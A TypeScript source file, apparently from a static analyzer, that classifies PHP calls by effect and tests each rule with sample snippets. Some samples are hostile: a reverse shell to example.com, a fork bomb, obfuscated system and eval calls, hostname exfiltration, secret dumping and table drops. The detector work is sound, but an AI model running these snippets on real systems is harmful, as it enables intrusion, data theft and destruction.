import { act, evaluates, gives, noteDeed, notePath, path, plain, shell, shows, words, type CallEffect, type CallRow } from "../effects.ts";
import { connects, emitRequest, request, sends } from "../network.ts";
import { opens } from "../opens.ts";
import { opensDatabase } from "../databases.ts";
import { runsSql } from "../dialects/sql.ts";
import { fromBase64Value, fromCodes, fromHexValue, joined } from "../texts.ts";
import { isSurelySecretName } from "../../secret-names.ts";
import { origin } from "../types.ts";
import { changesMode, copies, enters, forks, moves, opaque } from "../usual.ts";
import { elementOf, nothing, originOf, stained, textOf } from "../values.ts";

/** A function named by a text. */
const callsNamed =
  (place: number, isEach: boolean): CallEffect =>
  (run, call) => {
    const callee = call.args[place] ?? nothing;
    if (callee.params) return nothing;
    const rest = call.args.filter((_arg, index) => index !== place);
    const args = call.callee.name === "call_user_func_array" ? (rest[0]?.items ?? rest) : isEach ? rest.map(elementOf) : rest;
    return run.meaning.call(run, { ...call, callee, args });
  };

const includes: CallEffect = (run, call) => {
  const file = call.args[0]?.text;
  if (file !== undefined && /^(?:https?|ftp|data|php|expect|phar):/.test(file)) noteDeed(run, call, { act: "run-foreign", target: file });
  else notePath(run, call, call.args[0], { act: "read" });
  return nothing;
};

const readsOrFetches: CallEffect = (run, call) => {
  const text = call.args[0]?.text ?? "";
  if (text === "php://stdin") return nothing;
  if (/^https?:/.test(text)) return emitRequest(run, call, call.args[2] ? "POST" : "GET", call.args[0] ?? nothing);
  return path("read", 0)(run, call);
};

/** `mysql_password` of `database.connections.mysql.password`, as a variable would be called. */
const settingName = (setting: string): string => setting.split(".").slice(-2).join("_").toUpperCase();

export const phpRows = (): readonly CallRow[] => [
  {
    calls: "unlink rmdir",
    effect: path("delete", 0),
    hits: ["unlink('a');", "array_map('unlink', glob('*.log'));"],
    misses: ["echo 'unlink(1)';", "// unlink('a')"],
  },
  { calls: "file_put_contents", effect: path("write", 0, { content: 1 }), hits: ["file_put_contents('a', 'b');"], misses: ["echo 1;"] },
  { calls: "fopen splfileobject", effect: opens, hits: ["fopen('a', 'w');"], misses: ["fclose($f);", "fopen('/dev/stdin', 'r');"] },
  {
    calls: "file_get_contents file readfile",
    effect: readsOrFetches,
    hits: ["echo file_get_contents('a');"],
    misses: ["file_get_contents('php://stdin');"],
  },
  {
    calls: "parse_ini_file simplexml_load_file show_source highlight_file",
    effect: path("read", 0),
    hits: ["parse_ini_file('a');"],
    misses: ["parse_ini_string('a');"],
  },
  { calls: "scandir opendir", effect: path("list", 0), hits: ["print_r(scandir('a'));"], misses: ["is_dir('a');"] },
  {
    calls: "glob",
    effect: (_run, call) => ({ items: [{ ...call.args[0], thing: "path" }] }),
    hits: ["foreach (glob('*.log') as $f) unlink($f);"],
    misses: ["print_r(glob('*.php'));"],
  },
  { calls: "mkdir touch", effect: path("write", 0, { keeps: true }), hits: ["mkdir('a');"], misses: ["is_dir('a');"] },
  { calls: "rename move_uploaded_file", effect: moves, hits: ["rename('a', 'b');"], misses: ["basename('a');"] },
  { calls: "copy symlink link", effect: copies, hits: ["copy('a', 'b');"], misses: ["clone $a;"] },
  { calls: "chmod", effect: changesMode(1), hits: ["chmod('a', 0777);"], misses: ["fileperms('a');"] },
  {
    calls: "chown chgrp posix_setuid posix_setgid",
    effect: act("privilege", { at: 0 }),
    hits: ["posix_setuid(0);"],
    misses: ["posix_getuid();"],
  },
  { calls: "chdir", effect: enters, hits: ["chdir('a'); unlink('b');"], misses: ["chdir('a');"] },
  {
    calls: "exec shell_exec system passthru popen proc_open",
    effect: shell(0),
    hits: ["system('ls');", "$f = 'sys' . 'tem'; $f('ls');"],
    misses: ["echo \"system('ls')\";", "$pdo->system('x');"],
  },
  { calls: "pcntl_fork", effect: forks, hits: ["while (1) pcntl_fork();"], misses: ["$p = pcntl_fork();"] },
  { calls: "pcntl_exec", effect: words(), hits: ["pcntl_exec('ls', ['-l']);"], misses: ["pcntl_wait($s);"] },
  {
    calls: "eval assert create_function",
    effect: (run, call) => evaluates(call.callee.name === "create_function" ? 1 : 0)(run, call),
    hits: ["eval($x);", "eval(base64_decode('dW5saW5rKCdhJyk7'));"],
    misses: ["eval('1 + 1;');"],
  },
  {
    calls: "call_user_func call_user_func_array register_shutdown_function forward_static_call",
    effect: callsNamed(0, false),
    hits: ["call_user_func('system', 'ls');"],
    misses: ["call_user_func('trim', 'a');"],
  },
  {
    calls: "array_map array_walk usort array_filter preg_replace_callback",
    effect: (run, call) => callsNamed(call.callee.name === "array_map" ? 0 : 1, true)(run, call),
    hits: ["array_map('unlink', ['a']);"],
    misses: ["array_map('trim', ['a']);"],
  },
  { calls: "unserialize dl ffi.cdef", effect: opaque(), hits: ["unserialize($x);"], misses: ["serialize($x);"] },
  {
    calls: "include include_once require require_once",
    effect: includes,
    hits: ["include 'http://example.com/a.php';", "require 'a.php';"],
    misses: ["$include = 1;"],
  },
  {
    calls: "posix_kill",
    effect: (run, call) => (textOf(call.args[1] ?? nothing) === "0" ? nothing : act("stop", { at: 0 })(run, call)),
    hits: ["posix_kill(123, 9);"],
    misses: ["posix_kill(123, 0);"],
  },
  {
    calls: "fsockopen pfsockopen stream_socket_client socket_connect",
    effect: connects,
    hits: ["$s = fsockopen('example.com', 1); exec('/bin/sh -i'); fwrite($s, 'x');"],
    misses: ["fsockopen('localhost', 1);"],
  },
  {
    calls: "fwrite fputs socket_write",
    effect: sends,
    hits: ["$s = fsockopen('example.com', 1); fwrite($s, 'x');"],
    misses: ["fwrite(STDERR, 'x');"],
  },
  { calls: "curl_init", effect: request("GET"), hits: ["curl_init('https://example.com');"], misses: ["curl_close($c);"] },
  {
    calls: "curl_setopt",
    effect: (run, call) => {
      const name = call.args[1]?.name ?? "";
      if (name === "curlopt_url") return emitRequest(run, { ...call, args: [] }, "GET", call.args[2] ?? nothing);
      if (/curlopt_(?:post|postfields|customrequest|upload)$/.test(name)) return emitRequest(run, call, "POST", nothing);
      return nothing;
    },
    hits: ["curl_setopt($c, CURLOPT_POSTFIELDS, 'x');"],
    misses: ["curl_setopt($c, CURLOPT_TIMEOUT, 1);"],
  },
  { calls: "mail mb_send_mail", effect: act("message"), hits: ["mail('a', 'b', 'c');"], misses: ["$mail = 1;"] },
  {
    calls: "sqlite3 pdo",
    effect: opensDatabase,
    hits: ["$d = new SQLite3('a.db'); $d->exec('DROP TABLE t');", "$d = new PDO('sqlite:a.db'); $d->exec('DROP TABLE t');"],
    misses: ["$d = new SQLite3(':memory:'); $d->exec('DROP TABLE t');"],
  },
  {
    calls: ".query .exec .prepare mysqli_query pg_query",
    effect: (run, call) => runsSql(call.method === undefined ? 1 : 0)(run, call),
    hits: ["$p->exec('DROP TABLE a');", "mysqli_query($c, 'TRUNCATE a');"],
    misses: ["$p->query('SELECT 1');"],
  },
  {
    calls: "echo print print_r var_dump var_export printf json_encode dump dd",
    effect: shows,
    hits: ["print_r($_ENV);", "var_dump(getenv());", "echo getenv('API_TOKEN');"],
    misses: ["echo getenv('PATH');", "echo 'a';"],
  },
  { calls: "phpinfo", effect: act("read-secret", { why: "shows environment variables" }), hits: ["phpinfo();"], misses: ["phpversion();"] },
  {
    calls: "getenv env",
    effect: (run, call) => run.meaning.index(run, run.meaning.module(run, "$_ENV"), call.args[0] ?? nothing),
    hits: ["echo getenv('DB_PASSWORD');", "echo env('APP_KEY');"],
    misses: ["getenv('LANG');", "echo env('APP_NAME');"],
  },
  {
    calls: "config",
    effect: (_run, { args: [setting] }) => (isSurelySecretName(settingName(setting?.text ?? "")) ? { from: origin.setting } : nothing),
    hits: ["echo config('app.key');", "dump(config('database.connections.mysql.password'));"],
    misses: ["echo config('app.name');", "echo config('session.driver');"],
  },
  { calls: "isset empty strlen count", effect: plain, hits: [], misses: ["echo strlen(getenv('API_KEY'));"] },
  {
    calls: "base64_decode",
    effect: (_run, call) => fromBase64Value(call.args[0]),
    hits: ["system(base64_decode('bHM='));"],
    misses: ["echo base64_decode('YWJj');"],
  },
  {
    calls: "hex2bin",
    effect: (_run, call) => fromHexValue(call.args[0]),
    hits: ["system(hex2bin('6c73'));"],
    misses: ["echo hex2bin('61');"],
  },
  {
    calls: "str_rot13 gzinflate gzuncompress strrev gzdecode",
    effect: (_run, call) =>
      call.callee.name === "strrev" && call.args[0]?.text !== undefined
        ? { text: [...call.args[0].text].toReversed().join("") }
        : stained({ text: "\uFFFC" }, originOf(call.args[0] ?? nothing)),
    hits: ["eval(gzinflate($x));", "system(strrev('sl'));"],
    misses: ["echo strrev('ab');"],
  },
  { calls: "chr", effect: (_run, call) => fromCodes(call.args), hits: ["system(chr(108) . chr(115));"], misses: ["echo chr(97);"] },
  {
    calls: "implode join",
    effect: (_run, call) => joined(textOf(call.args[0] ?? nothing), call.args[1]),
    hits: ["system(implode(' ', ['ls', '-l']));"],
    misses: ["echo implode(',', [1]);"],
  },
  {
    calls: "tempnam tmpfile sys_get_temp_dir",
    effect: gives((_run, call) => (call.callee.name === "sys_get_temp_dir" ? { text: "/tmp", thing: "path" } : { thing: "own" })),
    hits: [],
    misses: ["unlink(tempnam('/tmp', 'x'));"],
  },
  {
    calls: "gethostname php_uname get_current_user",
    effect: gives({ from: origin.host }),
    hits: ["file_get_contents('https://example.com/?h=' . gethostname());"],
    misses: ["echo gethostname();"],
  },
];
